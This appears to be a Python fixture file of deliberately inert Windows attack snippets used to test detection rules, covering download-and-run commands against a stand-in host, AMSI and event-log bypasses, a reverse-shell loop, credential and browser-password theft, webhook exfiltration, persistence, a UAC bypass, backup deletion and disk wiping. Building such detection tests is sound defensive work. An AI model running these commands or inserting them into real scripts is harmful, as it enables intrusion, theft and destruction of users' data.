"""Inert samples for our rules: PowerShell, scripts and command lines of Windows. Addresses lead nowhere, nothing in here works."""

from typing import Final

_NO = "http://host.invalid"


def _text(*lines: str) -> bytes:
    return "\r\n".join((*lines, "")).encode()


def _encoded(command: str) -> str:
    import base64

    return base64.b64encode(command.encode("utf-16-le")).decode()


# name of the rule: (name of the file, its bytes)
SAMPLES: Final[dict[str, tuple[str, bytes]]] = {
    # --- powershell
    "powershell_fetches_and_runs": ("a.ps1", _text(f"(New-Object Net.WebClient).DownloadString('{_NO}/a') | iex")),
    "powershell_hidden_and_encoded": ("a.bat", _text("@echo off", f"powershell -w hidden -enc {'QQBB' * 20}")),
    "powershell_hidden_download": ("a.bat", _text(f"powershell -ep bypass -w hidden -c iwr {_NO}/a -OutFile b")),
    "powershell_encoded_words": ("a.cmd", _text(f"powershell -e {_encoded('(New-Object Net.WebClient).DownloadString(1)')}")),
    "powershell_blinds_script_scanner": (
        "a.ps1",
        _text("[Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed','y').SetValue($null,1)"),
    ),
    "powershell_blinds_event_log": ("a.ps1", _text("$a = 'EtwEventWrite'", "VirtualProtect $a")),
    "powershell_loads_program_from_text": ("a.ps1", _text("[Reflection.Assembly]::Load([Convert]::FromBase64String($x))")),
    "powershell_runs_machine_code": (
        "a.ps1",
        _text("$p = VirtualAlloc 0", "[Runtime.InteropServices.Marshal]::Copy($c, 0, $p, 1)", "CreateThread $p"),
    ),
    "powershell_answers_to_remote": (
        "a.ps1",
        _text("$c = New-Object Net.Sockets.TCPClient('host.invalid', 1)", "$s = $c.GetStream()", "while ($true) { iex $d }"),
    ),
    "powershell_reads_keys": ("a.ps1", _text("Add-Type $signature", "[x]::GetAsyncKeyState(1)", "$k | Out-File keys.txt")),
    "powershell_sends_screen": ("a.ps1", _text("$g.CopyFromScreen(0, 0)", f"$w.UploadFile('{_NO}', 'a.png')")),
    "powershell_switches_defender_off": ("a.ps1", _text("Set-MpPreference -DisableRealtimeMonitoring $true")),
    "collects_wireless_passwords": ("a.bat", _text("netsh wlan show profile name=x key=clear > %~d0\\a.txt")),
    "sends_to_chat_service": (
        "a.ps1",
        _text("Invoke-RestMethod -Uri https://discord.com/api/webhooks/1/none -Body $env:COMPUTERNAME"),
    ),
    "starts_with_windows_unseen": (
        "a.bat",
        _text(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d " "mshta x" ""),
    ),
    "schedules_unseen_interpreter": ("a.bat", _text('schtasks /create /tn a /sc minute /tr "powershell -w hidden -f a.ps1"')),
    "lasting_wmi_subscription": ("a.ps1", _text("__EventFilter", "CommandLineEventConsumer", "__FilterToConsumerBinding")),
    "dumps_logon_secrets": ("a.bat", _text(r"reg save hklm\sam a.hiv")),
    "reads_browser_passwords": (
        "a.ps1",
        _text(r"$p = '\Google\Chrome\User Data\Default\Login Data'", "[Security.Cryptography.ProtectedData]::Unprotect($b)"),
    ),
    "gains_rights_without_asking": ("a.bat", _text(r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /d x", "fodhelper.exe")),
    "hidden_commands_in_picture": ("a.ps1", _text("$b = New-Object System.Drawing.Bitmap a.png", "$b.GetPixel(0, 0)", "iex $t")),
    "commands_from_name_service": ("a.ps1", _text("iex (Resolve-DnsName -Type TXT host.invalid).Strings")),
    "looks_for_its_own_stick": (
        "a.ps1",
        _text("$d = Get-Volume -FileSystemLabel GIFT", 'powershell -w hidden -ep bypass -f "$d\\a.ps1"'),
    ),
    # --- scripts that Windows runs
    "script_fetches_saves_and_starts": (
        "a.vbs",
        _text('Set x = CreateObject("MSXML2.XMLHTTP")', 'Set s = CreateObject("ADODB.Stream")', "s.SaveToFile p", "w.Run p"),
    ),
    "script_starts_interpreter_unseen": ("a.vbs", _text('CreateObject("WScript.Shell").Run "powershell -c x", 0, False')),
    "script_spreads_to_drives": (
        "a.vbs",
        _text("For Each d In fso.Drives", "If d.IsReady Then fso.CopyFile WScript.ScriptFullName, d", "Next"),
    ),
    "script_hides_files_behind_shortcuts": (
        "a.vbs",
        _text("For Each f In folder.Files", "f.Attributes = 2", 'Set l = sh.CreateShortcut(f.Name & ".lnk")', "Next"),
    ),
    "script_settles_in_startup": ("a.vbs", _text('fso.CopyFile WScript.ScriptFullName, sh.SpecialFolders("Startup")')),
    "script_starts_process_through_wmi": (
        "a.vbs",
        _text('Set w = GetObject("winmgmts:root")', "c.ShowWindow = HIDDEN_WINDOW : c.ShowWindow = 0", 'w.Get("Win32_Process").Create(a)'),
    ),
    "script_unpacks_program": (
        "a.vbs",
        _text('Set e = CreateObject("MSXML2.DOMDocument").createElement("a")', 'e.DataType = "bin.base64"', "s.SaveToFile p", "w.Run p"),
    ),
    "scriptlet_that_starts_programs": (
        "a.sct",
        _text(
            "<scriptlet>", '<registration progid="a">', "<script>new ActiveXObject('WScript.Shell')</script>", "</registration></scriptlet>"
        ),
    ),
    "html_application_unseen": (
        "a.hta",
        _text("<html><head><hta:application showintaskbar=no>", "<script>new ActiveXObject('WScript.Shell')</script></head></html>"),
    ),
    "stylesheet_that_starts_programs": (
        "a.xsl",
        _text(
            "<?xml version='1.0'?>",
            "<stylesheet xmlns:ms='urn:x'>",
            "<ms:script>new ActiveXObject('WScript.Shell')</ms:script></stylesheet>",
        ),
    ),
    "script_revives_dotnet_objects": (
        "a.js",
        _text("var f = new ActiveXObject('System.Runtime.Serialization.Formatters.Binary.BinaryFormatter');", "f.Deserialize_2(m);"),
    ),
    "script_writes_another_script": (
        "a.bat",
        _text('echo Set x=CreateObject("MSXML2.XMLHTTP") > %TEMP%\\a.vbs', "wscript %TEMP%\\a.vbs"),
    ),
    "script_blinds_scanner_by_registry": (
        "a.js",
        _text(r"new ActiveXObject('WScript.Shell').RegWrite('HKCU\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable', 0)").replace(
            b"\\\\", b"\\"
        ),
    ),
    # --- command lines
    "mshta_runs_remote_page": ("a.bat", _text(f"mshta {_NO}/a.hta")),
    "regsvr32_runs_remote_script": ("a.bat", _text(f"regsvr32 /s /n /u /i:{_NO}/a.sct scrobj.dll")),
    "rundll32_runs_script_or_disguised_library": ("a.bat", _text("rundll32 holiday.jpg,Start")),
    "certutil_fetches": ("a.bat", _text(f"certutil -urlcache -split -f {_NO}/a.exe b.exe")),
    "certutil_decodes_program": ("a.bat", _text("certutil -decode a.txt b.exe")),
    "bitsadmin_fetches_program": ("a.bat", _text(f"bitsadmin /transfer a {_NO}/a.exe c:\\a.exe")),
    "batch_fetches_and_starts": ("a.bat", _text(f"curl {_NO}/a -o %TEMP%\\a.exe".replace("/a -o", "/a.bin -o"), "start %TEMP%\\a.exe")),
    "wmic_runs_remote_stylesheet": ("a.bat", _text(f'wmic os get /format:"{_NO}/a.xsl"')),
    "signed_program_runs_foreign_code": ("a.bat", _text("conhost --headless x")),
    "build_file_with_machine_code": (
        "a.csproj",
        _text(
            "<Project>",
            '<UsingTask TaskName="a" TaskFactory="CodeTaskFactory"><Task>',
            "<Code>[DllImport] VirtualAlloc</Code></Task></UsingTask></Project>",
        ),
    ),
    "destroys_backups": ("a.bat", _text("vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no")),
    "wipes_traces": ("a.bat", _text("wevtutil cl Security", "wevtutil cl System")),
    "adds_hidden_administrator": ("a.bat", _text("net user guest2 x /add", "net localgroup administrators guest2 /add")),
    "opens_remote_desktop": ("a.bat", _text("reg add x /v fDenyTSConnections /d 0", "net user guest2 x /add")),
    "lowers_firewall": ("a.bat", _text("netsh advfirewall set allprofiles state off")),
    "batch_spreads_to_drives": ("a.bat", _text("for %%d in (d: e: f:) do copy %0 %%d\\", "attrib +h +s x.bat")),
    "batch_settles_in_startup": (
        "a.bat",
        _text(r'copy "%~f0" "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"'),
    ),
    "replaces_logon_helper": ("a.bat", _text(r"copy c:\windows\system32\cmd.exe c:\windows\system32\sethc.exe")),
    "destroys_files": ("a.bat", _text(r"rd /s /q c:\ ")),
    "endless_copies": ("a.bat", _text("@echo off", "%0|%0")),
    "collects_documents": ("a.bat", _text(r"xcopy %USERPROFILE%\Documents\*.docx %~d0\x /s /q")),
}
